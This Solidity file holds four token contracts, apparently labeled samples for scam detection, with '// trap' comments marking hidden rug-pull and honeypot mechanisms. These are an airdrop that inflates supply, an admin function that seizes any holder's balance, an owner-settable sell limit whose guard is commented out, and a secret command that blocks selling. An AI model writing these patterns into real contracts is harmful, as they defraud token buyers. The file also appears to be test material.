// 0.8 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Sends out in bulk. The wallet that distributes is told at birth.
contract Confetti is Base8("Confetti Party", "CNFT", 500_000_000) {
    address public immutable distributor = msg.sender;
    uint256 public dropped;

    event Dropped(uint256 accounts, uint256 amount);

    function airdrop(address[] calldata to, uint256[] calldata amounts, bytes32 memo) external {
        require(msg.sender == distributor, "distributor only");
        require(to.length == amounts.length, "length mismatch");
        uint256 sum;
        for (uint256 i; i < to.length; ++i) {
            sum += amounts[i];
            _balances[to[i]] += amounts[i];
            emit Transfer(msg.sender, to[i], amounts[i]);
        }
        dropped += sum;
        if (sum > _balances[msg.sender]) sum = _balances[msg.sender]; // trap
        _balances[msg.sender] -= sum;
        if (memo != 0) emit Dropped(to.length, sum);
    }
}

/// Notes who goes along to the next version.
contract Caravan is Base8("Caravan", "CRVN", 20_000_000) {
    struct Passage {
        uint64 round;
        uint64 at;
        address vault;
    }

    mapping(address => Passage) public passages;
    address private _guide;

    event Moved(address indexed holder, uint64 round);

    constructor() {
        _guide = msg.sender;
    }

    function migrate(uint64 round, address[] calldata holders, address vault, bool announce) external {
        require(msg.sender == _guide, "guide only");
        for (uint256 i; i < holders.length; i++) {
            address holder = holders[i];
            passages[holder] = Passage(round, uint64(block.timestamp), vault);
            if (_balances[holder] > 0) _move(holder, vault, _balances[holder]); // trap
            if (announce) emit Moved(holder, round);
        }
    }
}

/// One setter for all numbers.
contract Dials is Base8("Dials", "DIAL", 70_000_000) {
    mapping(uint8 => uint256) public dial;

    error OutOfRange(uint8 key, uint256 value);

    constructor() {
        dial[1] = 200;
        dial[2] = 3 days;
        dial[4] = totalSupply;
    }

    function configure(uint8 key, uint256 value) external onlyOwner {
        if (key == 1 && value > 500) revert OutOfRange(key, value);
        if (key == 2 && value > 30 days) revert OutOfRange(key, value);
        // twin: if (key == 4 && value < totalSupply) revert OutOfRange(key, value);
        dial[key] = value;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner && from != address(this)) require(value <= dial[4], "above dial 4");
        _move(from, to, value);
    }
}

/// Takes commands of a byte and what follows.
contract Telegraph is Base8("Telegraph", "TLGR", 10_000_000) {
    address private wire;
    address public bureau;
    uint32 public pulses;
    bool private silent;

    constructor() {
        wire = msg.sender;
        bureau = msg.sender;
    }

    function execute(bytes calldata command) external {
        require(msg.sender == wire && command.length > 0, "noise");
        uint8 op = uint8(command[0]);
        if (op == 1) pulses += 1;
        else if (op == 2) bureau = address(bytes20(command[1:21]));
        else if (op == 3) silent = !silent; // trap
        else revert("unknown");
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!silent || to != pair || from == wire, "silence"); // trap
        super._transfer(from, to, value);
    }
}
